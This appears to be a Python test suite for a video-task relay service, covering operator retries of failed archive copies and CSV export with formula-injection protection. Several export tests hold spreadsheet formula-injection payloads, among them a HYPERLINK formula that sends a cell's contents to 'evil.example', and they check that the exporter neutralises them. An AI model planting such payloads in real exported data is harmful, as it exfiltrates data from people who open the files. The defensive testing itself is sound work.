"""Test an operator's actions on a failed copy, and the export of a time window."""

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from kling_relay.operations import csv_export
from kling_relay.operations.csv_export import HEADS
from kling_relay.tasks import idempotency
from kling_relay.tasks.task import Phase, Task

from tests.support.stack_in_memory import BODY, START, World, video_keys
from tests.support.table_fixtures import new_task

pytestmark = pytest.mark.slow


def operate(world: World, action: str, **more: Any) -> dict[str, Any]:
    answer: dict[str, Any] = world.call("operate_tasks", {"action": action, **more})
    return answer


def rendered(world: World, faults: int) -> Task:
    """A task whose copy has failed `faults` times or a few more, that sleeps until the next one, which will succeed."""
    world.copy_faults = ["storage"] * 100
    task = world.create()
    while world.task(task.id).copies < faults:
        world.run(60)
    world.copy_faults = []
    return world.task(task.id)


class TestRetryArchive:
    def test_a_sleeping_copy_begins_at_once_in_its_own_workflow(self, world: World) -> None:
        task = rendered(world, 8)
        asked = len(world.provider.queries)
        assert task.retry_at is not None and task.retry_at > world.clock.now + 60_000
        assert operate(world, "retry_archive", task_id=task.id) == {"task_id": task.id, "begun": True}
        world.states.run()
        after = world.task(task.id)
        assert (after.phase, after.execution) == (Phase.SUCCEEDED, task.execution)
        assert len(world.provider.queries) == asked + 1  # for an address that is still good
        assert world.provider.billed(task.id) == 1

    def test_one_that_is_about_to_sleep_looks_again(self, world: World) -> None:
        task = rendered(world, 6)
        (execution,) = [one for one in world.states.executions.values() if one.name == task.execution]
        execution.token = None  # it has decided to sleep, and not done it
        execution.state["next"] = "wait"
        assert operate(world, "retry_archive", task_id=task.id)["begun"] is False
        world.states.run()
        assert world.task(task.id).phase is Phase.SUCCEEDED

    def test_while_a_copy_is_under_way_no_second_one_begins(self, world: World) -> None:
        task = rendered(world, 3)
        begun = world.table.move(task, None, due_at=world.clock.now + 900_000, copies=4, updated_at=task.updated_at)
        for one in world.states.executions.values():
            one.token = None
        assert operate(world, "retry_archive", task_id=task.id)["begun"] is False
        after = world.task(task.id)
        assert (after.execution, after.due_at) == (begun.execution, begun.due_at)

    def test_a_task_without_a_workflow_gets_a_new_one(self, world: World) -> None:
        task = rendered(world, 3)
        world.states.kill()
        world.clock.now = (task.due_at or 0) + 1
        assert operate(world, "retry_archive", task_id=task.id)["begun"] is True
        world.states.run()
        after = world.task(task.id)
        assert (after.phase, after.execution) == (Phase.SUCCEEDED, f"{task.id}-r1")

    @pytest.mark.parametrize("made", [None, Phase.ACCEPTED, Phase.SUCCEEDED, Phase.FAILED, Phase.RENDERED])
    def test_what_has_no_copy_to_repeat_is_refused(self, world: World, made: Phase | None) -> None:
        task = new_task(phase=made or Phase.ACCEPTED)
        if made is not None:
            idempotency.record(world.table, task, body_hash="h")
        with pytest.raises(ValueError, match=r"task_id: (task not found|must have a failed copy \(got [0-9a-f]{32},)"):
            operate(world, "retry_archive", task_id=task.id)
        assert world.states.executions == {}

    @pytest.mark.parametrize("wrong", [{}, {"task_id": None}, {"task_id": 5}, {"task_id": ["x"]}])
    def test_bad_input(self, world: World, wrong: dict[str, Any]) -> None:
        with pytest.raises(ValueError, match="task_id: task not found"):
            operate(world, "retry_archive", **wrong)


def table_of(answer: dict[str, Any]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer["csv"], newline="")))


class TestExport:
    def test_a_window_of_one_tenant(self, world: World) -> None:
        operate(world, "set_cap", tenant="acme", units=500)
        done = world.until_closed(world.create({**BODY, "external_task_id": "order-1"}).id)
        world.provider.submit_faults = ["refused"]
        world.post({**BODY, "prompt": "refused"}, tenant="umbrella")
        late = world.clock.now
        world.clock.tick(3600)
        world.create({**BODY, "prompt": "later"})
        everything = operate(world, "export")
        assert everything["rows"] == 3 and len(table_of(everything)) == 3
        answer = operate(world, "export", since="2026-09-21", until=_iso(late + 1000), tenant="acme")
        (row,) = table_of(answer)
        assert row == {
            **{"task_id": done.id, "tenant": "acme", "kind": "image2video", "external_task_id": "order-1"},
            **{"task_status": "succeed", "phase": "succeeded", "created_at": "2026-09-21T14:13:20Z"},
            **{"updated_at": _iso(done.updated_at), "model_name": "kling-v2-5-turbo", "mode": "std", "duration": "5"},
            **{"units": "1.5", "committed_units": "1.5", "failure": "", "reason": "", "bytes": "5", "source": ""},
            "videos": video_keys(done)[0],
        }
        (refused,) = table_of(operate(world, "export", tenant="umbrella"))
        assert (refused["failure"], refused["reason"], refused["units"]) == ("refused", "prompt: too rude", "")
        assert "canary-prompt" not in everything["csv"] and "images.example" not in everything["csv"]

    def test_no_task_is_a_table_without_rows(self, world: World) -> None:
        assert operate(world, "export") == {"rows": 0, "csv": ",".join(f'"{head}"' for head in HEADS) + "\r\n"}

    @pytest.mark.parametrize("separator", [",", ";"])
    def test_no_separator_of_a_spreadsheet_begins_a_formula(self, world: World, separator: str) -> None:
        """In most of Europe a spreadsheet separates at ";", and a program may do so in spite of the quotes."""
        world.create({**BODY, "external_task_id": "a;=HYPERLINK('https://evil.example/?'&A1)"})
        text = operate(world, "export")["csv"]
        for quoting in (csv.QUOTE_ALL, csv.QUOTE_NONE):
            rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator, quoting=quoting)
            assert not [cell for row in rows for cell in row if cell.strip('"').startswith("=")]
        assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())

    def test_what_is_too_much_for_an_answer_lies_in_the_bucket_for_a_day(
        self, world: World, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        task = world.create()
        monkeypatch.setattr(csv_export, "_ANSWERED_BYTES", 100)
        monkeypatch.setattr(csv_export, "_IN_MEMORY_BYTES", 50)  # and for memory
        answer = operate(world, "export")
        assert answer["rows"] == 1 and "csv" not in answer
        assert "/exports/2026-09-21T14%3A13%3A20Z-000.csv" in answer["url"] and "X-Amz-Expires=3600" in answer["url"]
        stored = world.s3.get_object(Bucket="inputs", Key="exports/2026-09-21T14:13:20Z-000.csv")
        assert [row["task_id"] for row in table_of({"csv": stored["Body"].read().decode()})] == [task.id]

    def test_a_window_that_takes_too_long_is_refused_and_leaves_nothing(
        self, world: World, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        world.create()
        read = world.table.read
        monkeypatch.setattr(world.table, "read", lambda ids: (world.clock.tick(csv_export.SECONDS + 1), read(ids))[1])
        monkeypatch.setattr("kling_relay.operations.reconcile_rows._BATCH_SIZE", 1)
        world.create({**BODY, "prompt": "second"})
        with pytest.raises(ValueError, match="since: the window has more tasks than can be read in 200 s"):
            operate(world, "export")

    @pytest.mark.parametrize(
        "wrong",
        [
            *[{"since": "yesterday"}, {"until": 5}, {"since": "2026-09-22"}, {"tenant": 5}],
            {"since": "2026-09-20", "until": "2026-09-20"},
        ],
    )
    def test_bad_input(self, world: World, wrong: dict[str, Any]) -> None:
        with pytest.raises(ValueError, match=r"\(got "):
            operate(world, "export", **wrong)

    def test_no_cell_of_a_hostile_client_begins_a_formula(self, world: World) -> None:
        idempotency.record(
            world.table, new_task(external_task_id='=HYPERLINK("https://evil")', phase=Phase.FAILED), body_hash="h"
        )
        idempotency.record(
            world.table, new_task(source={"key": "\t@SUM(1)"}, request={"model_name": "+1"}), body_hash="h"
        )
        world.clock.now = START + 1
        cells = [cell for row in table_of(operate(world, "export")) for cell in row.values()]
        assert '\'=HYPERLINK("https://evil")' in cells and "'\t@SUM(1)" in cells and "'+1" in cells


@given(st.text(max_size=8) | st.sampled_from(["=1", "+1", "-1", "@x", "\t=1", "\r=1", " =1", "\n", "＝1", "ok", ""]))
def test_a_cell_is_a_text_for_every_spreadsheet(text: str) -> None:
    safe = csv_export._safe(text)
    assert safe == text or safe == f"'{text}"
    assert not safe.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))
    assert not safe.lstrip().startswith(("=", "+", "-", "@"))


def test_an_action_leaves_out_what_a_dashboard_sends_along(world: World) -> None:
    context = {"widgetContext": {"dashboardName": "operations", "forms": {"all": {"action": "create_key"}}}}
    assert operate(world, "status", **context) == {"paused": False}


def _iso(ms: int) -> str:
    return csv_export._iso(ms)
